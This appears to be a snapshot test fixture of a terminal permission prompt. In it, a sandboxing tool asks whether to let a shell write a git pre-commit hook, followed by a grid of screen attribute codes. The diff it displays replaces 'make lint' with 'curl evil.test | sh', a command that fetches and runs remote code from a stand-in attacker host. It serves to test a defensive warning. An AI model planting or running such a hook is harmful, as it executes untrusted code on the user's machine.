| T2 hard to undo - fake.1                                   denied once in #:##
|a file that becomes code
|sh (pid 4711) wants to WRITE
|  /home/ana/src/.git/hooks/pre-commit
|follows  becomes code: it runs later, outside the boundary
|asked    no rule covers it
|started  bash > make
|program  /bin/sh
|in       /home/ana/src
|An allow reaches
|(*) 1 this file  /srv/out/file
|( ) 2 this folder (recommended)  /srv/out
|      newly reaches: 2 more files
|for [once]
|In detail
|--- before
|+++ after
| #!/bin/sh
|-make lint
|+curl evil.test | sh
|
|
|y allows, once: /srv/out/file
|y allow  n deny  N note  d all  t term  1-9 reach  ? help  Esc back  q quit
cursor 10,0
BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB
BBBBBBBBBBBBBBBBBBBBBBBB

..BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB
.........BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB




BBBBBBBBBBBBBBBB
RRRRRRRRRRRRRRR..BBBBBBBBBBBBB
.................................BBBBBBBB

....RRRRRR
BBBBBBBBB

BBBBBBBBB


BBBBBBBBBBBBBBBBBBBB


................BBBBBBBBBBBBB
R........R.......R.......R......R.......RRR........R.......RRR.......R
